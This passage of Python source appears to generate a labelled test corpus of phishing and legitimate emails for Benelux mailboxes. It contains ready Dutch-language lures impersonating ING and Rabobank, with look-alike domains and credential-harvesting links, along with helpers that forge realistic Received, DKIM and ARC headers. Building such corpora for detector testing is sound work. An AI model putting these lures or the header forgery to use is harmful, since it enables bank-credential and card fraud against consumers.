"""Blind evaluation set 29: NL / BE / LU consumers, small firms, a gemeente and a school, 2024-2026.

75 hand-written messages (50 attacks, 25 legitimate) as they sit in the
recipient's mailbox after delivery, plus blind29_manifest.txt. Deterministic:
every pseudo-random value (ids, signatures, tokens) is derived from a hash of
the message's slug, so re-running leaves the files byte-identical.

    cd /work/main && .venv/bin/python samples/tools/build_blind29_samples.py
"""

from __future__ import annotations

import base64
import email.header
import email.policy
import email.utils
import glob
import hashlib
import io
import os
import sys
import zlib
from datetime import datetime, timedelta, timezone
from email.parser import BytesParser

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))

import files  # noqa: E402
from mime import Leaf, Multi, attachment, message, text  # noqa: E402

ROOT = os.path.abspath(os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", ".."))
MAIL = os.path.join(ROOT, "samples", "mail")
MANIFEST = os.path.join(ROOT, "samples", "tools", "blind29_manifest.txt")

MESSAGES: list[tuple[str, str, str, str, bytes]] = []  # (cat, kind, slug, description, raw)


# ---------------------------------------------------------------------------
# deterministic pseudo-random material
# ---------------------------------------------------------------------------

def hx(seed: str, n: int = 16) -> str:
    out = ""
    i = 0
    while len(out) < n:
        out += hashlib.sha256(f"{seed}/{i}".encode()).hexdigest()
        i += 1
    return out[:n]


def HX(seed: str, n: int = 16) -> str:
    return hx(seed, n).upper()


def b64(seed: str, n: int = 44) -> str:
    raw = b""
    i = 0
    while len(raw) < n:
        raw += hashlib.sha256(f"b64/{seed}/{i}".encode()).digest()
        i += 1
    return base64.b64encode(raw).decode()[:n]


def urlsafe(seed: str, n: int = 22) -> str:
    return b64(seed, n + 8).replace("+", "-").replace("/", "_").replace("=", "")[:n]


def alnum(seed: str, n: int = 12) -> str:
    alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789"
    digest = b"".join(hashlib.sha256(f"an/{seed}/{i}".encode()).digest() for i in range(n // 32 + 1))
    return "".join(alphabet[b % len(alphabet)] for b in digest[:n])


def digits(seed: str, n: int = 8) -> str:
    return str(int(hx("d" + seed, 40), 16))[:n].rjust(n, "0")


def iban(country: str, bank: str, account: str) -> str:
    """A check-digit-valid IBAN."""
    bban = bank + account
    numeric = "".join(str(int(c, 36)) for c in bban + country + "00")
    check = 98 - int(numeric) % 97
    return f"{country}{check:02d}{bban}"


def iban_spaced(value: str) -> str:
    return " ".join(value[i:i + 4] for i in range(0, len(value), 4))


# ---------------------------------------------------------------------------
# dates
# ---------------------------------------------------------------------------

def tz_nl(dt: datetime) -> timezone:
    """CET/CEST for the Benelux (last Sunday of March / October, close enough: by month)."""
    summer = 4 <= dt.month <= 9 or (dt.month == 3 and dt.day >= 28) or (dt.month == 10 and dt.day < 26)
    return timezone(timedelta(hours=2 if summer else 1))


def T(y: int, mo: int, d: int, h: int, mi: int, s: int = 0) -> datetime:
    """A Benelux local time."""
    naive = datetime(y, mo, d, h, mi, s)
    return naive.replace(tzinfo=tz_nl(naive))


def rfc(dt: datetime) -> str:
    return email.utils.format_datetime(dt)


def rfc_tz(dt: datetime, hours: float) -> str:
    """The same instant written in another zone (a sender abroad)."""
    return rfc(dt.astimezone(timezone(timedelta(hours=hours))))


def utc(dt: datetime) -> datetime:
    return dt.astimezone(timezone.utc)


def pacific(dt: datetime) -> datetime:
    u = utc(dt)
    summer = 4 <= u.month <= 10
    return u.astimezone(timezone(timedelta(hours=-7 if summer else -8)))


def rfc_pac(dt: datetime) -> str:
    p = pacific(dt)
    return rfc(p) + (" (PDT)" if p.utcoffset() == timedelta(hours=-7) else " (PST)")


def rfc_utc(dt: datetime) -> str:
    return email.utils.format_datetime(utc(dt)).replace("-0000", "+0000")


# ---------------------------------------------------------------------------
# header helpers
# ---------------------------------------------------------------------------

def enc(value: str, name: str = "Subject") -> str:
    """RFC 2047 for non-ASCII header text (UTF-8, as the sending software writes it)."""
    try:
        value.encode("ascii")
        return value
    except UnicodeEncodeError:
        return email.header.Header(value, "utf-8", header_name=name).encode(linesep="\n")


def addr(name: str, address: str) -> str:
    if not name:
        return address
    return email.utils.formataddr((name, address), charset="utf-8")


def fold(line: str, width: int = 76) -> str:
    """Fold a long structured header at '; ' or spaces."""
    if len(line) <= width:
        return line
    out, cur = [], ""
    for token in line.split(" "):
        if cur and len(cur) + 1 + len(token) > width:
            out.append(cur)
            cur = "\t" + token
        else:
            cur = f"{cur} {token}" if cur else token
    out.append(cur)
    return "\n".join(out)


def dkim(domain: str, selector: str, seed: str, signed: str = "from:to:subject:date:message-id:mime-version:content-type",
         algo: str = "rsa-sha256", canon: str = "relaxed/relaxed", t: datetime | None = None, extra: str = "") -> str:
    tpart = f" t={int(utc(t).timestamp())};" if t else ""
    bh = b64(seed + "bh", 43) + "="
    sig = b64(seed + "sig", 342 if algo == "rsa-sha256" else 86) + "=="
    lines = [f"DKIM-Signature: v=1; a={algo}; c={canon}; d={domain};",
             f"\ts={selector};{tpart}{extra}",
             f"\th={signed};",
             f"\tbh={bh};",
             "\tb="]
    body = ""
    for i in range(0, len(sig), 70):
        body += ("\t " if i else "") + sig[i:i + 70] + "\n"
    lines[-1] += body.rstrip("\n").lstrip("\t ")
    return "\n".join(lines)


def rcv(frm: str, by: str, when: datetime, with_: str = "ESMTPS", id_: str = "", for_: str = "",
        tls: str = "", stamp: str | None = None) -> str:
    """A Received line: ``frm`` is the whole 'from' clause text."""
    parts = [f"Received: from {frm}", f"\tby {by}"]
    if tls:
        parts.append(f"\t({tls})")
    tail = f"\twith {with_}" + (f" id {id_}" if id_ else "")
    parts.append(tail)
    if for_:
        parts.append(f"\tfor <{for_}>")
    parts[-1] += f"; {stamp or rfc(when)}"
    return "\n".join(parts)


def rcv_by(by: str, when: datetime, with_: str, id_: str, stamp: str | None = None) -> str:
    return f"Received: by {by} with {with_} id {id_};\n\t{stamp or rfc(when)}"


TLS13 = "version=TLS1_3 cipher=TLS_AES_256_GCM_SHA384 bits=256/256"
TLS12 = "version=TLS1_2 cipher=ECDHE-RSA-AES256-GCM-SHA384 bits=256/256"


def auth_generic(host: str, *, spf: str, mailfrom: str, ip: str, dkim_res: str = "none", dkim_d: str = "",
                 dkim_s: str = "", dmarc: str = "none", hfrom: str = "", policy: str = "none", seed: str = "") -> str:
    parts = [f"Authentication-Results: {host};"]
    if dkim_res == "none":
        parts.append("\tdkim=none (message not signed);")
    else:
        parts.append(f"\tdkim={dkim_res} header.d={dkim_d} header.s={dkim_s} header.b={b64(seed + dkim_d, 8)};")
    parts.append(f"\tspf={spf} (domain of {mailfrom} {'designates' if spf == 'pass' else 'does not designate'} "
                 f"{ip} as permitted sender)")
    parts.append(f"\tsmtp.mailfrom={mailfrom};")
    parts.append(f"\tdmarc={dmarc} (p={policy} dis={'none' if dmarc != 'fail' else 'quarantine' if policy == 'quarantine' else 'none'})"
                 f" header.from={hfrom}")
    return "\n".join(parts)


# ---------------------------------------------------------------------------
# the recipient's provider: what it writes on top of the message
# ---------------------------------------------------------------------------

class Hop:
    """How the message reached the recipient's MX: the last sender-side host and the checks' results."""

    def __init__(self, *, ip: str, helo: str, rdns: str | None = None, mailfrom: str, spf: str = "pass",
                 dkim_res: str = "none", dkim_d: str = "", dkim_s: str = "", dmarc: str = "none",
                 hfrom: str = "", policy: str = "none", tls: str = TLS13):
        self.ip, self.helo, self.rdns = ip, helo, rdns if rdns is not None else helo
        self.mailfrom, self.spf = mailfrom, spf
        self.dkim_res, self.dkim_d, self.dkim_s = dkim_res, dkim_d, dkim_s
        self.dmarc, self.hfrom, self.policy, self.tls = dmarc, hfrom or mailfrom.split("@")[-1], policy, tls

    @property
    def mf_domain(self) -> str:
        return self.mailfrom.split("@")[-1]


def guid(seed: str) -> str:
    h = hx(seed, 32)
    return f"{h[:8]}-{h[8:12]}-{h[12:16]}-{h[16:20]}-{h[20:]}"


def _gmail(rcpt: str, when: datetime, seed: str, hop: Hop) -> list[str]:
    arrive = when + timedelta(seconds=2)
    spf_text = {"pass": f"pass (google.com: domain of {hop.mailfrom} designates {hop.ip} as permitted sender)",
                "fail": f"fail (google.com: domain of {hop.mailfrom} does not designate {hop.ip} as permitted sender)",
                "softfail": f"softfail (google.com: domain of transitioning {hop.mailfrom} does not designate {hop.ip} "
                            f"as permitted sender)",
                "neutral": f"neutral (google.com: {hop.ip} is neither permitted nor denied by best guess record for "
                           f"domain of {hop.mailfrom})"}[hop.spf]
    dk = (f"dkim={hop.dkim_res} header.i=@{hop.dkim_d} header.s={hop.dkim_s} header.b={b64(seed + 'hb', 8)};\n\t"
          if hop.dkim_res != "none" else "")
    pol = hop.policy.upper()
    dm = f"dmarc={hop.dmarc} (p={pol} sp={pol} dis={'NONE' if hop.dmarc != 'fail' else ('QUARANTINE' if pol == 'QUARANTINE' else 'NONE')}) header.from={hop.hfrom}"
    ar_body = f"mx.google.com;\n\t{dk}spf={spf_text} smtp.mailfrom={hop.mailfrom};\n\t{dm}"
    if hop.dmarc == "none" and hop.policy == "none":
        ar_body = f"mx.google.com;\n\t{dk}spf={spf_text} smtp.mailfrom={hop.mailfrom}"
    sid = f"{hx(seed + 'g1', 4)}:{hx(seed + 'g2', 4)}"
    t_arc = int(utc(arrive).timestamp())
    out = [
        f"Delivered-To: {rcpt}",
        rcv_by(f"2002:a05:6504:{sid}:b0:{hx(seed + 'g3', 3)}:{hx(seed + 'g4', 4)}", arrive + timedelta(seconds=1),
               "SMTP", f"{hx(seed + 'g5', 4)}csp{digits(seed + 'g6', 6)}ltc;", stamp=rfc_pac(arrive + timedelta(seconds=1)))
        .replace(";;", ";"),
        f"X-Google-Smtp-Source: AGHT+I{b64(seed + 'gs', 82).replace('/', 'x')}",
        f"X-Received: by 2002:a05:6000:{hx(seed + 'xr', 3)}:b0:{hx(seed + 'xr2', 3)}:{hx(seed + 'xr3', 4)} with SMTP id "
        f"{hx(seed + 'xr4', 14)}.{digits(seed + 'xr5', 2)}.{arrive.year}.{arrive.month:02d}.{arrive.day:02d}."
        f"{pacific(arrive).hour:02d}.{arrive.minute:02d}.{arrive.second:02d};\n\t{rfc_pac(arrive)}",
        f"ARC-Seal: i=1; a=rsa-sha256; t={t_arc}; cv=none;\n\td=google.com; s=arc-20240605;\n\t"
        f"b={b64(seed + 'as', 64)}\n\t {b64(seed + 'as2', 60)}==",
        f"ARC-Message-Signature: i=1; a=rsa-sha256; c=relaxed/relaxed; d=google.com; s=arc-20240605;\n\t"
        f"h=to:subject:message-id:date:from:mime-version:dkim-signature;\n\t"
        f"bh={b64(seed + 'abh', 44)};\n\tfh={b64(seed + 'afh', 44)};\n\tb={b64(seed + 'ab', 64)}\n\t {b64(seed + 'ab2', 60)}==",
        f"ARC-Authentication-Results: i=1; {ar_body}",
        f"Return-Path: <{hop.mailfrom}>",
        f"Received: from {hop.helo} ({hop.rdns}. [{hop.ip}])\n\tby mx.google.com with ESMTPS id "
        f"{hx(seed + 'mx', 10)}si{digits(seed + 'mx2', 7)}{hx(seed + 'mx3', 3)}.{digits(seed + 'mx4', 3)}."
        f"{arrive.year}.{arrive.month:02d}.{arrive.day:02d}.{pacific(arrive).hour:02d}.{arrive.minute:02d}."
        f"{arrive.second:02d}\n\tfor <{rcpt}>\n\t({hop.tls});\n\t{rfc_pac(arrive)}",
        f"Received-SPF: {spf_text} client-ip={hop.ip};",
        f"Authentication-Results: {ar_body}",
    ]
    return out


def _eop(rcpt: str, when: datetime, seed: str, hop: Hop, tenant: str | None, internal: bool = False) -> list[str]:
    """Exchange Online Protection: outlook.com mailboxes (tenant None) and M365 tenants."""
    arrive = when + timedelta(seconds=3)
    region = "EUR" if tenant else "EURP"
    pr1 = f"{HX(seed + 'pr1', 2)[:2]}{HX(seed + 'p', 1)[0]}PR{digits(seed + 'p1', 2)}MB{digits(seed + 'p2', 4)}"
    pr1 = f"AM{digits(seed + 'a', 1)}PR{digits(seed + 'p1', 2)}MB{digits(seed + 'p2', 4)}" if tenant else \
        f"DU{digits(seed + 'a', 1)}PR{digits(seed + 'p1', 2)}MB{digits(seed + 'p2', 4)}"
    ca = f"DB{digits(seed + 'c', 1)}P{digits(seed + 'c1', 3)}CA{digits(seed + 'c2', 4)}"
    fe = f"AM{digits(seed + 'f', 1)}PEPF0000{HX(seed + 'fe', 4)}"
    v6base = f"2603:10a6:{hx(seed + 'v6', 3)}:{hx(seed + 'v7', 2)}"
    v6 = f"{v6base}::{int(hx(seed + 'v8', 1), 16) + 1}"
    build = f"15.20.{8100 + int(digits(seed + 'bd', 3)) % 800}.{int(digits(seed + 'bd2', 2)) % 40}"
    spf_word = {"pass": "pass", "fail": "fail", "softfail": "softfail", "none": "none", "neutral": "neutral"}[hop.spf]
    spf_reason = {"pass": f"(sender IP is {hop.ip})", "fail": f"(sender IP is {hop.ip})",
                  "softfail": f"(sender IP is {hop.ip})", "none": f"(sender IP is {hop.ip})",
                  "neutral": f"(sender IP is {hop.ip})"}[hop.spf]
    dk = {"pass": f"dkim=pass (signature was verified) header.d={hop.dkim_d}",
          "fail": f"dkim=fail (body hash did not verify) header.d={hop.dkim_d}",
          "none": "dkim=none (message not signed) header.d=none"}[hop.dkim_res]
    if hop.dmarc == "pass":
        dm, comp = f"dmarc=pass action=none header.from={hop.hfrom}", "compauth=pass reason=100"
    elif hop.dmarc == "bestguesspass":
        dm, comp = f"dmarc=bestguesspass action=none header.from={hop.hfrom}", "compauth=pass reason=109"
    elif hop.dmarc == "fail":
        act = {"reject": "oreject", "quarantine": "quarantine", "none": "none"}[hop.policy]
        dm, comp = f"dmarc=fail action={act} header.from={hop.hfrom}", "compauth=fail reason=000" \
            if hop.policy != "none" else "compauth=softpass reason=201"
    else:
        dm, comp = f"dmarc=none action=none header.from={hop.hfrom}", "compauth=none reason=405"
    ar = fold(f"Authentication-Results: spf={spf_word} {spf_reason} smtp.mailfrom={hop.mf_domain}; {dk};{dm};{comp}")
    ms = "Microsoft SMTP Server (version=TLS1_2, cipher=TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384)"
    rspf = fold(f"Received-SPF: {spf_word.capitalize()} (protection.outlook.com: domain of {hop.mf_domain} "
                f"{'designates' if hop.spf == 'pass' else 'does not designate'} {hop.ip} as permitted sender) "
                f"receiver=protection.outlook.com; client-ip={hop.ip}; helo={hop.helo}; pr=C")
    fe_host = f"{fe}.{'mail.protection.outlook.com'}"
    out = []
    if not tenant:
        out.append(f"Received: from {pr1}.eurprd0{digits(seed + 'e', 1)}.prod.outlook.com (::1) by\n\t"
                   f"PAXPR{digits(seed + 'px', 2)}MB{digits(seed + 'px2', 4)}.eurprd0{digits(seed + 'e', 1)}"
                   f".prod.outlook.com with HTTPS; {rfc_utc(arrive + timedelta(seconds=1))}")
    out += [
        f"Received: from {ca}.EURP{digits(seed + 'c3', 3)}.PROD.OUTLOOK.COM ({v6}) by\n\t{pr1}.eurprd0{digits(seed + 'e', 1)}"
        f".prod.outlook.com ({v6base.replace(':10a6:', ':10a6:10:')}::{hx(seed + 'v9', 2)}) with\n\t{ms} id {build};\n\t{rfc_utc(arrive)}",
        f"Received: from {fe}.eurprd0{digits(seed + 'e2', 1)}.prod.outlook.com\n\t({v6base}:cafe::{hx(seed + 'cf', 2)}) "
        f"by {ca}.outlook.office365.com\n\t({v6}) with {ms} id {build} via Frontend Transport;\n\t{rfc_utc(arrive)}",
    ]
    if not internal:
        out += [ar, rspf,
                f"Received: from {hop.helo} ({hop.ip}) by\n\t{fe_host} (10.167.{int(digits(seed + 'i1', 3)) % 255}."
                f"{int(digits(seed + 'i2', 3)) % 255}) with {ms.replace('TLS1_2, cipher=TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384', 'TLS1_3, cipher=TLS_AES_256_GCM_SHA384')}"
                f" id {build}\n\tvia Frontend Transport; {rfc_utc(when + timedelta(seconds=2))}"]
    else:
        out.append(f"Authentication-Results: dkim=none (message not signed)\n\theader.d=none;dmarc=none action=none "
                   f"header.from={hop.hfrom};")
    out += [
        f"X-MS-Exchange-Organization-ExpirationStartTime: {utc(arrive).strftime('%d %b %Y %H:%M:%S.%f')[:-3]}0 (UTC)",
        "X-MS-Exchange-Organization-ExpirationStartTimeReason: OriginalSubmit",
        "X-MS-Exchange-Organization-ExpirationInterval: 1:00:00:00.0000000",
        "X-MS-Exchange-Organization-ExpirationIntervalReason: OriginalSubmit",
        f"X-MS-Exchange-Organization-Network-Message-Id: {guid(seed + 'nmid')}",
        "X-EOPAttributedMessage: 0",
        f"X-EOPTenantAttributedMessage: {guid(tenant or 'outlook.com')}:0",
        f"X-MS-Exchange-Organization-MessageDirectionality: {'Originating' if internal else 'Incoming'}",
        f"X-MS-PublicTrafficType: Email",
        f"X-MS-Exchange-Organization-AuthSource: {fe_host if not internal else pr1 + '.eurprd0' + digits(seed + 'e', 1) + '.prod.outlook.com'}",
        f"X-MS-Exchange-Organization-AuthAs: {'Internal' if internal else 'Anonymous'}",
        f"X-MS-Office365-Filtering-Correlation-Id: {guid(seed + 'corr')}",
        f"X-MS-Exchange-Organization-SCL: {'-1' if internal else '1'}",
    ]
    return out


def _simple(mx: str, ar_host: str, extra: list[str]):
    def build(rcpt: str, when: datetime, seed: str, hop: Hop) -> list[str]:
        arrive = when + timedelta(seconds=2)
        return [f"Return-Path: <{hop.mailfrom}>", f"Delivered-To: {rcpt}"] + [
            e.format(id=hx(seed + 'sid', 16), ID=HX(seed + 'sid', 12), guid=guid(seed + 'sg')) for e in extra] + [
            rcv(f"{hop.helo} ({hop.rdns} [{hop.ip}])", mx, arrive, "ESMTPS", hx(seed + "rid", 12) if "Halon" not in mx
                else guid(seed + "halon"), for_=rcpt, tls=hop.tls.replace(" bits=256/256", "")),
            auth_generic(ar_host, spf=hop.spf, mailfrom=hop.mailfrom, ip=hop.ip, dkim_res=hop.dkim_res,
                         dkim_d=hop.dkim_d, dkim_s=hop.dkim_s, dmarc=hop.dmarc, hfrom=hop.hfrom, policy=hop.policy,
                         seed=seed),
        ]
    return build


PROVIDERS = {
    "gmail": _gmail,
    "outlook": lambda r, w, s, h: _eop(r, w, s, h, None),
    "kpn": _simple("mx.kpnmail.nl (Halon)", "mx.kpnmail.nl", ["X-KPN-MessageId: {guid}"]),
    "ziggo": _simple("mx3.ziggo.nl (Vade)", "mx3.ziggo.nl", ["X-VR-SPAMSTATE: OK", "X-VADE-STATUS: LEGIT"]),
    "telenet": _simple("mxin-02.telenet-ops.be", "telenet-ops.be", ["X-Telenet-Mail-Id: {ID}"]),
    "proximus": _simple("mailin2.skynet.be", "skynet.be", ["X-Proximus-Mail-Ref: {id}"]),
    "postlu": _simple("mx1.pt.lu (POST Luxembourg)", "pt.lu", ["X-POST-Mailrelay: mx1.pt.lu"]),
}


def inbound(provider: str, rcpt: str, when: datetime, seed: str, hop: Hop, internal: bool = False) -> list[str]:
    if provider.startswith("m365:"):
        return _eop(rcpt, when, seed, hop, provider[5:], internal)
    return PROVIDERS[provider](rcpt, when, seed, hop)


def headers(*blocks) -> str:
    out: list[str] = []
    for b in blocks:
        if not b:
            continue
        if isinstance(b, str):
            out.append(b)
        else:
            out.extend(x for x in b if x)
    return "\n".join(out)


def add(cat: str, kind: str, slug: str, description: str, raw: bytes) -> None:
    MESSAGES.append((cat, kind, slug, description, raw))


# ---------------------------------------------------------------------------
# common bodies
# ---------------------------------------------------------------------------

def alt(seed: str, plain: str, html: str, qp: bool = True, style: str = "") -> Multi:
    encoding = "quoted-printable" if qp else "base64"
    bnd = boundary(seed, style) if style else f"----=_Part_{digits(seed + 'bd', 6)}_{digits(seed + 'bd2', 9)}.{digits(seed + 'bd3', 13)}"
    return Multi("alternative", bnd,
                 [text(plain, encoding=encoding), text(html, "html", encoding=encoding)])


def boundary(seed: str, style: str = "generic") -> str:
    if style == "outlook":
        return f"_000_{HX(seed + 'o1', 12)}{HX(seed + 'o2', 24)}_"
    if style == "gmail":
        return f"000000000000{hx(seed + 'gm', 16)}"
    if style == "apple":
        return f"Apple-Mail={guid(seed + 'ap').upper()}"
    if style == "thunderbird":
        return f"------------{alnum(seed + 'tb', 24)}"
    if style == "mc":
        return f"_----------=_MCPart_{digits(seed + 'mc', 10)}"
    if style == "phpmailer":
        return f"b1_{alnum(seed + 'pm', 43)}"
    return f"----=_NextPart_{hx(seed + 'np', 3).upper()}_{HX(seed + 'np1', 4)}_{HX(seed + 'np2', 8)}.{HX(seed + 'np3', 8)}"


def html_doc(inner: str, title: str = "", lang: str = "nl") -> str:
    return (f'<!DOCTYPE html>\n<html lang="{lang}">\n<head>\n<meta charset="utf-8">\n'
            f'<meta name="viewport" content="width=device-width, initial-scale=1">\n<title>{title}</title>\n'
            f"</head>\n<body style=\"margin:0;padding:0;background:#f3f3f3;\">\n{inner}\n</body>\n</html>\n")


def button(href: str, label: str, bg: str = "#ff6200", color: str = "#ffffff") -> str:
    return (f'<table role="presentation" cellpadding="0" cellspacing="0" border="0"><tr>'
            f'<td style="background:{bg};border-radius:4px;padding:12px 26px;">'
            f'<a href="{href}" style="color:{color};font-family:Arial,sans-serif;font-size:15px;'
            f'font-weight:bold;text-decoration:none;">{label}</a></td></tr></table>')


def card(body: str, header: str = "", footer: str = "", width: int = 600) -> str:
    return (f'<table role="presentation" width="100%" cellpadding="0" cellspacing="0" border="0" style="background:#f3f3f3;">'
            f'<tr><td align="center" style="padding:24px 8px;">\n'
            f'<table role="presentation" width="{width}" cellpadding="0" cellspacing="0" border="0" '
            f'style="background:#ffffff;max-width:{width}px;">\n'
            f'<tr><td style="padding:20px 32px 0 32px;">{header}</td></tr>\n'
            f'<tr><td style="padding:20px 32px;font-family:Arial,Helvetica,sans-serif;font-size:15px;line-height:22px;color:#333333;">\n'
            f"{body}\n</td></tr>\n"
            f'<tr><td style="padding:16px 32px 24px 32px;font-family:Arial,Helvetica,sans-serif;font-size:11px;line-height:16px;'
            f'color:#888888;border-top:1px solid #e5e5e5;">{footer}</td></tr>\n'
            f"</table>\n</td></tr></table>")


def pdf_with_qr(lines_top: list[str], url: str, lines_bottom: list[str], title: str) -> bytes:
    """A one-page PDF: text, a QR code image (Flate, grey), more text."""
    from PIL import Image

    png = files.qr_png(url)
    img = Image.open(io.BytesIO(png)).convert("L")
    w, h = img.size
    data = zlib.compress(img.tobytes(), 9)
    content = ["BT", "/F1 11 Tf", "14 TL", "56 780 Td"]
    for line in lines_top:
        content.append("(" + line.replace("\\", "\\\\").replace("(", "\\(").replace(")", "\\)") + ") Tj T*")
    content.append("ET")
    y_img = 780 - 14 * len(lines_top) - 200
    content.append(f"q 180 0 0 180 56 {y_img} cm /Im1 Do Q")
    content += ["BT", "/F1 11 Tf", "14 TL", f"56 {y_img - 24} Td"]
    for line in lines_bottom:
        content.append("(" + line.replace("\\", "\\\\").replace("(", "\\(").replace(")", "\\)") + ") Tj T*")
    content.append("ET")
    stream = "\n".join(content).encode("latin-1")
    objects = files.image_page(stream, data, w, h, "FlateDecode")
    objects.append(f"<< /Title ({title}) /Producer (Microsoft: Print To PDF) "
                   f"/CreationDate (D:20250311101500+01'00') >>".encode("latin-1"))
    return files.pdf_file(objects, len(objects))


# ---------------------------------------------------------------------------
# checks and output
# ---------------------------------------------------------------------------

def check(raw: bytes, name: str) -> None:
    """Parse like a mail client would and refuse anything malformed."""
    for number, line in enumerate(raw.split(b"\n"), start=1):
        assert len(line) < 990, f"{name}: line {number} is {len(line)} bytes"
    msg = BytesParser(policy=email.policy.default).parsebytes(raw)
    for part in msg.walk():
        assert not part.defects, f"{name}: part defects {part.defects}"
        for key, value in part.items():
            assert not getattr(value, "defects", None), f"{name}: header {key} defects {value.defects}"
        if part.is_multipart():
            continue
        content = part.get_content()
        assert content is not None, f"{name}: empty content"
        if part.get_content_maintype() == "text":
            assert isinstance(content, str)
    for required in ("From", "To", "Subject", "Date", "Message-ID", "MIME-Version", "Received", "Authentication-Results"):
        assert msg[required] is not None, f"{name}: no {required}"


BUILDERS = []


def msg(fn):
    BUILDERS.append(fn)
    return fn


# ===========================================================================
# MESSAGES
# ===========================================================================


def mailbox(*, seed: str, when: datetime, provider: str, rcpt: str, hop: Hop, hops: list[str] = (),
            sig: str | None = None, core: list[str], internal: bool = False) -> str:
    """Provider headers on top, then the sender's own Received hops, DKIM signature(s), the writer's headers."""
    return headers(inbound(provider, rcpt, when, seed, hop, internal), list(hops), sig, core)


def mid(seed: str, domain: str, style: str = "generic") -> str:
    if style == "gmail":
        return f"<CA{alnum(seed + 'm1', 2)}+{alnum(seed + 'm2', 10)}{b64(seed + 'm3', 30).replace('/', 'x').replace('+', '_')}@mail.gmail.com>"
    if style == "outlook":
        return f"<{alnum(seed + 'o', 4).upper()}PR{digits(seed, 2)}MB{digits(seed + 'q', 4)}{HX(seed + 'r', 20)}@" \
               f"{alnum(seed + 'o', 4).upper()}PR{digits(seed, 2)}MB{digits(seed + 'q', 4)}.eurprd0{digits(seed + 'e', 1)}.prod.outlook.com>"
    if style == "phpmailer":
        return f"<{alnum(seed + 'pm', 43)}@{domain}>"
    if style == "uuid":
        return f"<{guid(seed + 'uu')}@{domain}>"
    if style == "sendgrid":
        return f"<{urlsafe(seed + 'sg', 22)}@geopod-ismtpd-{digits(seed + 'sgn', 1)}>"
    if style == "ses":
        return f"<01070{hx(seed + 'ses', 11)}-{guid(seed + 'ses2')}-000000@eu-west-1.amazonses.com>"
    if style == "mc":
        return f"<{hx(seed + 'mc', 24)}.{hx(seed + 'mc2', 20)}.{digits(seed + 'mc3', 8)}@mail{digits(seed + 'mc4', 2)}" \
               f".atl{digits(seed + 'mc5', 2)}1.mcdlv.net>"
    return f"<{hx(seed + 'g', 12)}.{digits(seed + 'g2', 10)}@{domain}>"


def qp_html(html: str) -> Leaf:
    return text(html, "html")


# ---------------------------------------------------------------------------
# attacks: banks
# ---------------------------------------------------------------------------

@msg
def p_ing_betaalpas():
    seed, when = "ing-betaalpas", T(2025, 2, 11, 7, 42, 18)
    rcpt, dom = "m.vandijk@kpnmail.nl", "ingpas-service.com"
    url = f"https://ing-betaalpas-nl.pages.dev/vernieuwen/?ref={alnum(seed + 'u', 10)}"
    hop = Hop(ip="91.215.85.142", helo="mail.ingpas-service.com", rdns="vps142.zap-srv.net",
              mailfrom=f"bounce@{dom}", dkim_res="pass", dkim_d=dom, dkim_s="default", dmarc="pass",
              hfrom=dom, policy="none")
    plain = ("Beste klant,\n\nUw huidige ING betaalpas verloopt binnenkort. Om te voorkomen dat u niet meer kunt\n"
             "pinnen of contactloos betalen, vragen wij u uw nieuwe betaalpas vóór 18 februari 2025 aan te vragen.\n\n"
             f"Nieuwe betaalpas aanvragen: {url}\n\n"
             "Na het verlopen van deze datum wordt uw huidige pas automatisch geblokkeerd.\n\n"
             "Met vriendelijke groet,\nING Klantenservice\n")
    html = html_doc(card(
        "<p>Beste klant,</p>"
        "<p>Uw huidige ING betaalpas verloopt binnenkort. Om te voorkomen dat u niet meer kunt pinnen of contactloos "
        "betalen, vragen wij u uw nieuwe betaalpas <b>v&oacute;&oacute;r 18 februari 2025</b> aan te vragen.</p>"
        f"{button(url, 'Nieuwe betaalpas aanvragen')}"
        "<p>Na het verlopen van deze datum wordt uw huidige pas automatisch geblokkeerd en worden lopende "
        "automatische incasso's mogelijk niet uitgevoerd.</p><p>Met vriendelijke groet,<br>ING Klantenservice</p>",
        header='<span style="font-family:Arial;font-size:26px;font-weight:bold;color:#ff6200;">ING</span>',
        footer="ING Bank N.V. | Bijlmerdreef 106, 1102 CT Amsterdam | Dit is een automatisch gegenereerd bericht."),
        "ING")
    raw = message(mailbox(
        seed=seed, when=when, provider="kpn", rcpt=rcpt, hop=hop,
        hops=[rcv("localhost (localhost [127.0.0.1])", "mail.ingpas-service.com (Postfix)", when - timedelta(seconds=1),
                  "ESMTP", f"4Yt{alnum(seed + 'pf', 7)}")],
        sig=dkim(dom, "default", seed, t=when),
        core=[f"Date: {rfc(when)}", f"To: {rcpt}", f"From: {addr('ING', 'noreply@' + dom)}",
              f"Subject: {enc('Actie vereist: uw betaalpas verloopt binnenkort')}",
              f"Message-ID: {mid(seed, dom, 'phpmailer')}", "X-Mailer: PHPMailer 6.9.1 (https://github.com/PHPMailer/PHPMailer)"]),
        alt(seed, plain, html))
    add("phishing", "phish", "ing-betaalpas-pagesdev", "ING 'betaalpas verloopt' lure from a look-alike domain that passes "
        "its own SPF/DKIM, sending the customer to a pages.dev page to 'request a new card' (credential and card theft).", raw)


@msg
def p_rabo_scanner_sendgrid():
    seed, when = "rabo-scanner", T(2025, 4, 3, 16, 5, 40)
    rcpt, dom = "r.devries1968@ziggo.nl", "dehaan-installatie.nl"
    track = (f"https://u{digits(seed, 8)}.ct.sendgrid.net/ls/click?upn=u001.{urlsafe(seed + 'upn', 60)}"
             f"-2B{urlsafe(seed + 'upn2', 40)}-3D-3D{urlsafe(seed + 'upn3', 6)}")
    mf = f"bounces+{digits(seed + 'b', 8)}-{hx(seed + 'b2', 4)}-r.devries1968=ziggo.nl@em{digits(seed + 'em', 4)}.{dom}"
    hop = Hop(ip="149.72.134.51", helo="o1.ptr7622.dehaan-installatie.nl", rdns="o1.ptr7622.dehaan-installatie.nl",
              mailfrom=mf, dkim_res="pass", dkim_d=dom, dkim_s="s1", dmarc="pass", hfrom=dom, policy="none")
    plain = ("Rabobank\n\nGeachte klant,\n\nVanaf 1 mei 2025 stopt de Rabo Scanner. Inloggen en betalingen\n"
             "bevestigen kan daarna alleen nog met de Rabo App. Heeft u uw Rabo App nog niet gekoppeld?\n"
             "Rond dan vandaag de overstap af, dit duurt ongeveer 3 minuten.\n\n"
             f"Overstap afronden: {track}\n\n"
             "Let op: niet afgeronde overstappen worden om veiligheidsredenen tijdelijk beperkt.\n\n"
             "Met vriendelijke groet,\nRabobank\n")
    html = html_doc(card(
